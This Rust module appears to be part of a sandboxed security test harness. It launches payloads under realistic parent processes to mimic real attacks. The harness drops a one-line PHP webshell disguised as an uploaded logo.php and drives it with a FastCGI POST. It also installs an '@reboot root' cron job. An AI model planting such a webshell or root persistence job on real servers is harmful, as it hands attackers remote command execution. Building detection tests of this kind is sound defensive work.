//! Who starts the payload, each in the way the real one does. Runs inside the cage.

mod fastcgi;

use std::fs::{self, File};
use std::io::Write as _;
use std::os::unix::process::CommandExt as _;
use std::path::{Path, PathBuf};
use std::process::{ChildStdin, Command, Stdio};
use std::thread;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail, ensure};

use super::{Parent, Spec};
use crate::payloads::fill::{form, quoted};

/// A webshell as small as they come.
const SCRIPT: &str = "<?php system($_POST['c']);\n";
const SCRIPT_PATH: &str = "/var/www/html/uploads/logo.php";
/// cron takes command lines up to 1,000 bytes (MAX_COMMAND in its entry.c), on one line.
const CRON_LIMIT: usize = 900;
const JOB: &str = "/usr/local/bin/job";
/// Writes nothing and does not end before everything ends.
const NEVER_ENDING: &str = "sleep 3600";
const PATIENCE: Duration = Duration::from_secs(5);

/// Runs a command line that the payload wants to have been run before.
pub(super) fn prepare(spec: &Spec, line: &str) -> Result<()> {
    let status = command(&spec.shell)
        .args(["-c", line])
        .stdin(Stdio::null())
        .stdout(output()?)
        .status()
        .context("cannot run the setup")?;
    ensure!(status.success(), "the setup `{line}` failed: {status}");
    Ok(())
}

/// Starts the payload. What is returned keeps its standard input open.
pub(super) fn start(spec: &Spec, cgroup: Option<&File>) -> Result<Option<ChildStdin>> {
    match spec.parent {
        Parent::Shell => directly(spec, None),
        Parent::Systemd => directly(spec, Some(cgroup.context("no control group")?)),
        Parent::PhpFpm => php_fpm(spec).map(|()| None),
        Parent::Cron => cron(spec).map(|()| None),
    }
}

/// A program with an environment as services have it.
fn command(program: &str) -> Command {
    let mut command = Command::new(program);
    command
        .env_clear()
        .env(
            "PATH",
            "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
        )
        .env("HOME", "/root")
        .env("USER", "root")
        .env("LANG", "C.UTF-8");
    command
}

/// Where payloads write to: a file outside, the same as our standard error.
fn output() -> Result<Stdio> {
    use std::os::fd::AsFd as _;
    let copy = std::io::stderr().as_fd().try_clone_to_owned();
    Ok(copy.context("no standard error")?.into())
}

fn directly(spec: &Spec, service: Option<&File>) -> Result<Option<ChildStdin>> {
    let mut shell = command(&spec.shell);
    shell.args(["-c", &spec.command]).stdout(output()?);
    shell.stdin(if spec.keep_stdin_open {
        Stdio::piped()
    } else {
        Stdio::null()
    });
    if let Some(cgroup) = service {
        let cgroup = cgroup.try_clone().context("no control group")?;
        let join = move || {
            // SAFETY: no memory is passed. The child is not a leader of a group yet.
            if unsafe { libc::setsid() } < 0 {
                return Err(std::io::Error::last_os_error());
            }
            // Zero is whoever writes it.
            (&cgroup).write_all(b"0")
        };
        // SAFETY: between fork and exec it makes two system calls and allocates nothing.
        unsafe { shell.pre_exec(join) };
    }
    let mut child = shell.spawn().context("cannot start the shell")?;
    Ok(child.stdin.take())
}

/// The payload as one line for `/bin/sh`.
fn line(spec: &Spec) -> String {
    let input = if spec.keep_stdin_open {
        format!("{NEVER_ENDING} | ")
    } else {
        String::new()
    };
    format!("{input}{} -c {}", spec.shell, quoted(&spec.command))
}

/// The script, the real php-fpm with its configuration as packaged, and a request as a web
/// server in front of it would send it.
fn php_fpm(spec: &Spec) -> Result<()> {
    let place = Path::new(SCRIPT_PATH).parent().unwrap_or(Path::new("/"));
    fs::create_dir_all(place).context("cannot make a web root")?;
    fs::write(SCRIPT_PATH, SCRIPT).context("cannot write the script")?;
    fs::create_dir_all("/run/php").context("cannot make /run/php")?;
    let program = found("/usr/sbin", |name| name.starts_with("php-fpm"))?;
    let program = program.to_str().context("php-fpm with a strange name")?;
    command(program)
        .arg("--nodaemonize")
        .stdin(Stdio::null())
        .stdout(output()?)
        .spawn()
        .context("cannot start php-fpm")?;
    let socket = awaited(|| found("/run/php", |name| name.ends_with(".sock")))?;
    let stream = awaited(|| Ok(std::os::unix::net::UnixStream::connect(&socket)?))?;
    let background = format!("{} >/dev/null 2>&1 &", line(spec));
    fastcgi::post(stream, SCRIPT_PATH, &format!("c={}", form(&background)))
}

/// Debian's cron, with a job for its own start: cron starts `@reboot` jobs with the same code as
/// those of a minute, without anybody having to wait for the minute.
fn cron(spec: &Spec) -> Result<()> {
    let line = line(spec);
    let job = if line.len() > CRON_LIMIT || line.contains('\n') {
        fs::write(JOB, format!("#!/bin/sh\n{line}\n")).context("cannot write a job")?;
        format!("/bin/sh {JOB}")
    } else {
        // In a crontab a percent sign is an end of line.
        line.replace('%', "\\%")
    };
    fs::write("/etc/cron.d/app", format!("@reboot root {job}\n"))
        .context("cannot write a crontab")?;
    command("/usr/sbin/cron")
        .arg("-f")
        .stdin(Stdio::null())
        .stdout(output()?)
        .spawn()
        .context("cannot start cron")?;
    Ok(())
}

/// The file in a directory whose name is as wanted.
fn found(directory: &str, is_wanted: impl Fn(&str) -> bool) -> Result<PathBuf> {
    for entry in fs::read_dir(directory).with_context(|| format!("no {directory}"))? {
        let entry = entry?;
        if entry.file_name().to_str().is_some_and(&is_wanted) {
            return Ok(entry.path());
        }
    }
    bail!("nothing suitable in {directory}")
}

fn awaited<T>(attempt: impl Fn() -> Result<T>) -> Result<T> {
    let began = Instant::now();
    loop {
        match attempt() {
            Err(error) if began.elapsed() > PATIENCE => return Err(error),
            Err(_) => thread::sleep(Duration::from_millis(10)),
            done => return done,
        }
    }
}
